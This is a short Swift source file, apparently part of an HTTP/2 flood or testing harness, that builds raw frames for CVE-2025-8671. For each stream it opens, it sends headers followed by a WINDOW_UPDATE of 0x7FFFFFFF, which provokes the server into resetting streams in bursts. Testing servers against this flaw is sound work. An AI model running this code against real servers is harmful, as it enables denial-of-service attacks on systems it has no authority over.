/// Opens streams and makes the server reset them, by a window that no number can hold
/// (CVE-2025-8671).
package struct ProvokedResets: Flood {
  private let call: FloodCall

  /// Provocations on a call.
  package init(_ call: FloodCall = .health) {
    self.call = call
  }

  package func burst(_ turn: Int) -> [UInt8] {
    repeating(turn) { number in
      let stream = RawFrame.stream(number)
      return call.headers(stream: stream)
        + RawFrame.frame(
          type: RawFrame.windowUpdate, flags: 0, stream: stream, RawFrame.bigEndian(0x7FFF_FFFF))
    }
  }
}
